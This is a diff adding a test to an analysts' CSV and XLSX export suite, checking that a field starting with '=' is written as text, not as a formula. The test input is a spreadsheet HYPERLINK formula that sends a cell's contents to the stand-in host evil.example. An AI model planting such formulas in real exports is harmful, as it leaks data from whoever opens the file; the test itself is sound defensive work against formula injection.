@@ -182,6 +182,21 @@ describe("analysts' dataset", () => {
     expect((await get('kara', '/api/v1/exports/analyst.csv?from=hier')).json().code).toBe('validation_error');
   });
 
+  it('writes a sub-project reference starting with = as text, not as a formula', async () => {
+    const village = await makeUnit(t.db, tree.b.canton, 'village');
+    const payload = '=HYPERLINK("http://evil.example/?d="&A2,"Voir")';
+    const c = await fileComplaint(t, who.officer!, village.id, { subprojectRef: payload });
+    const csv = rowsOf((await get('officer', `/api/v1/exports/analyst.csv?area=${village.id}`)).body);
+    expect(csv[1]![0]).toBe(c.reference);
+    expect(csv[1]![ANALYST_HEADERS.indexOf('subproject_ref')]).toBe(`'${payload}`);
+    const res = await get('officer', `/api/v1/exports/analyst.xlsx?area=${village.id}`);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const cell = wb.worksheets[0]!.getRow(2).getCell(ANALYST_HEADERS.indexOf('subproject_ref') + 1);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(payload);
+  });
+
   it('pages on the full-precision received time: every case once, even within one millisecond', async () => {
     const bulk = await makeUnit(t.db, tree.a.canton, 'village');
     const n = ANALYST_PAGE_SIZE + 200;
